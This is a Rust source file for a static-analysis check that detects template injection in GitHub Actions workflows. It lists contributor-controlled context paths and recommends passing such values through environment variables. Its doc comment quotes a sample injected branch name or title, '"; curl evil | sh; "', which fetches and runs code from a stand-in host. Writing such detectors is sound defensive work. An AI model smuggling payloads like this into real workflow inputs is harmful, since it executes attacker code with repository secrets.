//! `gha-template-injection`: attacker-controlled expressions expanded into code.
//!
//! **What**: `${{ github.event.issue.title }}`, `${{ github.head_ref }}` and other values an
//! outside contributor controls, written directly into a `run:` script or an
//! `actions/github-script` `script:`.
//! **Why**: Actions substitutes the text before the shell runs, so a crafted title or branch name
//! (`"; curl evil | sh; "`) becomes code running with the workflow's token and secrets.
//! **Example**: `run: echo "${{ github.event.pull_request.title }}"`.
//! **Fix**: pass the value through an environment variable and quote it:
//! `env: TITLE: ${{ github.event.pull_request.title }}` then `run: echo "$TITLE"`.

use super::{ActionsCheck, Workflow};
use crate::misconfig::CheckMeta;
use ferret_core::{Confidence, Finding, Severity};

pub struct TemplateInjection;

static META: CheckMeta = CheckMeta {
    id: "gha-template-injection",
    title: "Template injection in a workflow script",
    format: "GitHub Actions",
    severity: Severity::High,
    confidence: Confidence::High,
    description: "A run: or script: body expands an attacker-controllable expression (issue or PR titles and bodies, comments, branch names, commit messages), allowing code injection.",
    remediation: "Move the expression into `env:` and reference the variable (quoted) in the script instead of using `${{ }}` inline.",
};

/// Context paths an external contributor controls.
const CONTROLLED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.display_title",
    "github.event.pages",
    "github.event.commits",
];

impl ActionsCheck for TemplateInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn run(&self, path: &str, workflow: &Workflow, findings: &mut Vec<Finding>) {
        for code in &workflow.code {
            let text = &code.line.text;
            let mut from = 0;
            while let Some(start) = text[from..].find("${{").map(|s| s + from) {
                let end = text[start..]
                    .find("}}")
                    .map_or(text.len(), |e| start + e + 2);
                let expression = &text[start..end];
                let normalized: String =
                    expression.chars().filter(|c| !c.is_whitespace()).collect();
                if let Some(context) = CONTROLLED.iter().find(|c| normalized.contains(**c)) {
                    let column = text[..start].chars().count() as u32 + 1;
                    let mut finding =
                        META.finding(path, code.line.number, column, expression, context);
                    finding.snippet = text.trim().chars().take(160).collect();
                    findings.push(finding);
                }
                from = end;
            }
        }
    }
}
